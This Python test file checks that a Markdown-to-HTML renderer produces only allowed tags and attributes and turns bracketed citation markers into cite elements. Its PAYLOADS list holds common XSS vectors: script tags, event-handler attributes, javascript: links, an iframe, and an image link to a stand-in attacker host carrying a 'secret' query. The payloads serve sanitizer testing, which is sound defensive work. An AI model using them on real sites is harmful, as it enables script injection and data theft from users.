"""Released text → HTML: marked, and inert whatever it says."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from baize.api.markup import render

ALLOWED = set("blockquote br cite code em h1 h2 h3 h4 h5 h6 hr li ol p pre strong ul".split())

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "[click](javascript:alert(1))",
    "![x](https://evil.example/?q=secret)",
    "<https://evil.example>",
    "[1]: javascript:alert(1)\n\n[1]",
    '"><iframe src=//evil.example>',
    "<a href='javascript:alert(1)'>x</a>",
    '<cite data-marker="1" onclick="alert(1)">[1]</cite>',
    "<style>body{display:none}</style>",
    "```\n<script>alert(1)</script>\n```",
    "`<script>`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<math><mtext></p><style><img src=x onerror=alert(1)>",
]


class _Tags(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {(tag, name) for name, _ in attrs}


def _assert_inert(html: str) -> None:
    parsed = _Tags(html)
    assert parsed.tags <= ALLOWED
    assert parsed.attributes <= {("cite", "data-marker"), ("ol", "start")}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_text_is_inert(payload: str) -> None:
    """No tag, attribute or link of the text's own survives, alone or inside a sentence."""
    _assert_inert(render(payload, {1}))
    _assert_inert(render(f"- 课程说：{payload}[1]\n- **{payload}**", {1}))


@given(st.text(alphabet="<>\"'=/[]()!`&;*-\n 1ascriptonl:#", max_size=120))
def test_any_text_is_inert(text: str) -> None:
    """As above for whatever hypothesis puts together from the characters that matter."""
    _assert_inert(render(text, {1, 11}))


@given(st.text(alphabet="ab 12[]().,!'\"?#>+=|-:/%量压，。！　\n\u2028\u0085", max_size=30))
def test_what_is_not_parsed_reads_as_if_it_were(text: str) -> None:
    """Code behind it has the whole text parsed. (No tilde: a fence of them would take the code in.)"""
    plain = f"血压[1]：{text}。[2]"
    parsed = "<p><code>x</code></p>\n"
    assert render(f"{plain}\n\n`x`", {1, 2}) == render(plain, {1, 2}) + parsed


def test_markers_that_cite_become_cite_elements() -> None:
    """A client finds markers by element, never by searching the text."""
    html = render("先坐五分钟。[1][2]", {1, 2})

    assert html == ('<p>先坐五分钟。<cite data-marker="1">[1]</cite><cite data-marker="2">[2]</cite></p>\n')


def test_brackets_that_cite_nothing_stay_text() -> None:
    """A year or an index in brackets is no citation."""
    assert render("见 [3] 与 `a[1]`。[1]", {1}) == (
        '<p>见 [3] 与 <code>a[1]</code>。<cite data-marker="1">[1]</cite></p>\n'
    )


def test_a_marker_before_parentheses_is_no_link() -> None:
    """`[1](…)` would be a link in Markdown; here it is a citation and a remark."""
    assert render("如此[1](见下)", {1}) == '<p>如此<cite data-marker="1">[1]</cite>(见下)</p>\n'


def test_lists_and_emphasis_are_rendered() -> None:
    """Answers are short Markdown."""
    assert render("如下：\n- **坐**着\n- 躺着\n", ()) == (
        "<p>如下：</p>\n<ul>\n<li><strong>坐</strong>着</li>\n<li>躺着</li>\n</ul>\n"
    )
